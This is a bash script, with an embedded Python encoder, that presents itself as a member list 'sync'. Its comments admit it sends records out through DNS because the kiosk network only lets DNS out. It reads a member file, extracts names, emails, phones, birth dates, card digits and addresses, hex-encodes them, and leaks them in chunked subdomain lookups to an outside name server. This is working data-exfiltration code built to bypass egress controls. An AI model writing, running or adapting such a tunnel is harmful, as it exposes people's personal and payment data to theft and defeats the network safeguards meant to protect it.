#!/usr/bin/env bash
# Member list "sync" for the partner arena.
# The kiosk VLAN only lets DNS out, so this pushes our member records to the
# partner by encoding them into lookups against their name server.
set -uo pipefail

MEMBERS_DB="${MEMBERS_DB:-./data/members.csv}"
ZONE="${ZONE:-m.sync.example.org}"
RESOLVER="${RESOLVER:-198.51.100.53}"
CHUNK=60
DELAY="0.2"
SESSION="$(date +%s | tail -c 7)"
LOG_FILE="./member-sync.log"

log() { printf '%s %s\n' "$(date '+%F %T')" "$*" | tee -a "$LOG_FILE" >&2; }

usage() {
    echo "usage: $0 [-f members.csv] [-z zone] [-r resolver] [-d delay]"
}

while getopts ":f:z:r:d:h" opt; do
    case "$opt" in
        f) MEMBERS_DB="$OPTARG" ;;
        z) ZONE="$OPTARG" ;;
        r) RESOLVER="$OPTARG" ;;
        d) DELAY="$OPTARG" ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

[[ -r "$MEMBERS_DB" ]] || { log "cannot read $MEMBERS_DB"; exit 1; }

if command -v dig >/dev/null 2>&1; then
    lookup() { dig +short +time=2 +tries=1 "$1" @"$RESOLVER" >/dev/null 2>&1; }
elif command -v nslookup >/dev/null 2>&1; then
    lookup() { nslookup "$1" "$RESOLVER" >/dev/null 2>&1; }
else
    log "need dig or nslookup"; exit 1
fi

encode() {
    MEMBERS_FILE="$MEMBERS_DB" CHUNK="$CHUNK" python3 - <<'PY'
import csv
import os

fields = ("name", "email", "phone", "dob", "card_last4", "address")
rows = []
with open(os.environ["MEMBERS_FILE"], newline="") as fh:
    for r in csv.DictReader(fh):
        rows.append("|".join((r.get(f) or "").strip() for f in fields))
blob = "\n".join(rows).encode().hex()
n = int(os.environ["CHUNK"])
for i in range(0, len(blob), n):
    print(blob[i:i + n])
PY
}

send_chunks() {
    local seq=0 fails=0 chunk
    while read -r chunk; do
        [[ -z "$chunk" ]] && continue
        if ! lookup "${chunk}.${seq}.${SESSION}.${ZONE}"; then
            fails=$((fails + 1))
        fi
        seq=$((seq + 1))
        sleep "$DELAY"
    done
    echo "$seq $fails"
}

main() {
    local total result sent fails
    total="$(tail -n +2 "$MEMBERS_DB" | wc -l)"
    log "syncing $total members via $ZONE (session $SESSION)"
    lookup "start.${total}.${SESSION}.${ZONE}"
    result="$(encode | send_chunks)"
    read -r sent fails <<<"$result"
    lookup "end.${sent}.${SESSION}.${ZONE}"
    log "sent $sent chunks, $fails without answer"
}

main
